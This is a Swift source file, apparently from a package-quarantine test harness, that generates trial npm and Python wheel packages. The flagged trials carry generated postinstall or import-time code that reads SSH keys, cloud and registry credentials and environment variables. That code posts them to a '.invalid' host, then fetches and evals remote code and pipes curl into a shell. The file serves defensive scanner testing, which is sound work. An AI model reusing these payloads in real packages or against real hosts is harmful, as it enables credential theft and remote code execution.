import Foundation
import Packages
import Quarantine

/// A package made for one trial: harmless, and flagged or not by what its code would do.
///
/// Names, hosts and identifiers are made afresh each time, so that a refusal can come from nothing but the behavior.
/// No code of it is ever run: an npm trial runs no scripts, a wheel has none, and nobody imports it. All hosts end in
/// `.invalid`, which no resolver answers (RFC 2606).
struct TrialPackage: Sendable {
    let name: String
    let bytes: [UInt8]
    /// What it puts into the folder that it is installed to.
    let installedFile: String
    /// The npm manifest; empty for a wheel.
    let manifest: String

    static let version = "1.0.0"

    var wheelName: String { "\(Self.module(name))-\(Self.version)-py3-none-any.whl" }

    static func npm(isFlagged: Bool) -> TrialPackage? {
        let name = freshName()
        let scripts = isFlagged ? ",\"scripts\":{\"postinstall\":\"node setup.js\"}" : ""
        let manifest = "{\"name\":\"\(name)\",\"version\":\"\(version)\",\"main\":\"index.js\"\(scripts)}"
        var files = [
            (path: "package/package.json", text: manifest),
            (path: "package/index.js", text: "module.exports = () => \(Int.random(in: 1...999));\n"),
        ]
        if isFlagged { files.append((path: "package/setup.js", text: javaScriptBehavior())) }
        guard let bytes = gzippedTar(of: files) else { return nil }
        return TrialPackage(
            name: name, bytes: bytes, installedFile: "node_modules/\(name)/index.js", manifest: manifest)
    }

    static func wheel(isFlagged: Bool) -> TrialPackage {
        let name = freshName()
        let module = module(name)
        let information = "\(module)-\(version).dist-info"
        let answer = "def answer():\n    return \(Int.random(in: 1...999))\n\n"
        var files = [
            (path: "\(module)/__init__.py", text: isFlagged ? answer + pythonBehavior() : answer),
            // pipx takes only what brings a program.
            (
                path: "\(information)/entry_points.txt",
                text: "[console_scripts]\n\(name) = \(module):answer\n"
            ),
            (
                path: "\(information)/METADATA",
                text: "Metadata-Version: 2.1\nName: \(name)\nVersion: \(version)\nSummary: a trial\n"
            ),
            (
                path: "\(information)/WHEEL",
                text: "Wheel-Version: 1.0\nGenerator: airlock\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
            ),
        ]
        let record = files.map { "\($0.path),,\n" }.joined() + "\(information)/RECORD,,\n"
        files.append((path: "\(information)/RECORD", text: record))
        return TrialPackage(
            name: name, bytes: storedZip(of: files), installedFile: "\(module)/__init__.py", manifest: "")
    }

    private static func module(_ name: String) -> String { name.replacing("-", with: "_") }

    private static let words = [
        "amber", "basil", "cedar", "delta", "ember", "fjord", "grove", "hazel", "islet", "juniper", "kelp", "larch",
        "maple", "nectar", "otter", "pollen", "quartz", "rowan", "sorrel", "thyme",
    ]

    private static func freshName() -> String {
        let letters = (0..<5).map { _ in "abcdefghijklmnopqrstuvwxyz".randomElement() ?? "x" }
        return words.shuffled().prefix(2).joined(separator: "-") + "-" + String(letters)
    }

    /// Collects secrets and sends them, then fetches more and runs it: what the postinstall scripts of malware do.
    private static func javaScriptBehavior() -> String {
        let (host, first, second) = (freshName(), module(freshName()), module(freshName()))
        return """
            const https = require('https'), os = require('os'), fs = require('fs'), path = require('path');
            const { exec } = require('child_process');
            function \(first)() {
              const facts = { host: os.hostname(), user: os.userInfo().username, home: os.homedir(), env: process.env };
              for (const name of ['.ssh/id_rsa', '.npmrc', '.aws/credentials']) {
                try { facts[name] = fs.readFileSync(path.join(os.homedir(), name), 'utf8'); } catch (error) {}
              }
              const body = Buffer.from(JSON.stringify(facts)).toString('base64');
              const request = https.request({ hostname: '\(host).invalid', path: '/\(second)', method: 'POST' });
              request.on('error', () => {});
              request.write(body);
              request.end();
            }
            function \(second)() {
              https.get('https://\(host).invalid/\(first)', (response) => {
                let text = '';
                response.on('data', (part) => { text += part; });
                response.on('end', () => { eval(Buffer.from(text, 'base64').toString()); });
              }).on('error', () => {});
              exec('curl -s https://\(host).invalid/\(first).sh | sh', () => {});
            }
            \(first)();
            \(second)();

            """
    }

    /// The same at import time.
    private static func pythonBehavior() -> String {
        let (host, first, second) = (freshName(), module(freshName()), module(freshName()))
        return """
            import base64, json, os, platform, socket, urllib.request

            def \(first)():
                facts = {'host': socket.gethostname(), 'system': platform.platform(), 'variables': dict(os.environ)}
                for path in ('~/.ssh/id_rsa', '~/.aws/credentials', '~/.npmrc', '~/.pypirc'):
                    try:
                        facts[path] = open(os.path.expanduser(path)).read()
                    except Exception:
                        pass
                body = base64.b64encode(json.dumps(facts).encode())
                urllib.request.urlopen(urllib.request.Request('https://\(host).invalid/\(second)', data=body, method='POST'))

            def \(second)():
                os.system('curl -s https://\(host).invalid/\(first).sh | bash')
                exec(base64.b64decode(urllib.request.urlopen('https://\(host).invalid/\(first)').read()))

            try:
                \(first)()
                \(second)()
            except Exception:
                pass

            """
    }
}
